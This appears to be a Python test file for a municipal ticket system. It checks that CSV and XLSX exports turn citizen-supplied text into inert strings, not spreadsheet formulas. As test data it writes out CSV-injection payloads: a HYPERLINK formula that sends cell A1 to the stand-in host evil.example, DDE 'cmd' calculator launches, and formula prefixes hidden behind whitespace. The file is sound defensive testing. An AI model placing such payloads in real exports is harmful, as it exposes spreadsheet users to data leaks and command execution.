"""Exports never hand a spreadsheet a live formula (issue 14, finding 7: OWASP CSV injection).

A citizen chooses their ticket's title, their name and their address; those land in the centre's
CSV and XLSX exports, which are opened in Excel or WPS. A cell starting with = + - @ (also after
blanks), a tab or a CR must arrive as text, and a phone number must stay readable with every digit.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl

from tickets.core.actors import Actor
from tickets.intake.services import intake
from tickets.metrics.services import exports

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
ADDRESS = "+cmd|' /C calc'!A0 东湖区新华路8号"
PAYLOADS = {"标题": TITLE, "市民姓名": NAME, "地址": ADDRESS}


def _hostile_ticket(user: Any, cats: Any) -> Any:
    return intake.ticket_create(
        actor=Actor.of(user("operator1")),
        channel="phone",
        title=TITLE,
        text="-2+3 公司拖欠三个月工资不发",
        kind="complaint",
        citizen_name=NAME,
        citizen_phone="13812341234",
        citizen_address=ADDRESS,
        category=cats["tqgz"],
    )


def test_csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote(
    city: Any, cats: Any, user: Any, api: Any
) -> None:
    ticket = _hostile_ticket(user, cats)
    response = api("supervisor1").get("/api/exports/tickets.csv")
    body = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    row = dict(zip(rows[0], next(r for r in rows[1:] if r[0] == ticket.number), strict=True))
    for column, payload in PAYLOADS.items():
        assert row[column] == "'" + payload, column  # the citizen's text, whole, never a formula
    # The phone is text with every digit: a bare +8613812341234 would show as 8.61E+12.
    assert row["联系电话"] == "'+8613812341234"
    for cells in rows:
        assert not any(exports.cell_is_formula_like(c) for c in cells), cells


def test_xlsx_cells_are_typed_strings_never_formulas(city: Any, cats: Any, user: Any, api: Any) -> None:
    ticket = _hostile_ticket(user, cats)
    response = api("supervisor1").get("/api/exports/tickets.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == ticket.number)
    row = dict(zip(header, cells, strict=True))
    for line in sheet.iter_rows():
        assert all(c.data_type != "f" for c in line), [c.value for c in line]
    for column, payload in PAYLOADS.items():
        cell = row[column]
        # Shown exactly as typed, stored as a string, and Excel's quote prefix keeps it text even
        # when someone edits the cell.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True), column
    phone = row["联系电话"]
    assert (phone.value, phone.data_type) == ("+8613812341234", "s")
    assert row["重办次数"].data_type == "n"  # numbers stay numbers


def test_leading_blanks_tabs_and_carriage_returns_do_not_hide_a_formula() -> None:
    for value in (" =1+1", "\u3000=1+1", "\t=1+1", "\r=1+1", "-1", "@A1", "\n+1"):
        assert exports.csv_cell(value) == "'" + value
    for value in ("李女士", "136****6001", "2026-01-01 08:00:00", "", "a=b", 3):
        assert exports.csv_cell(value) == value
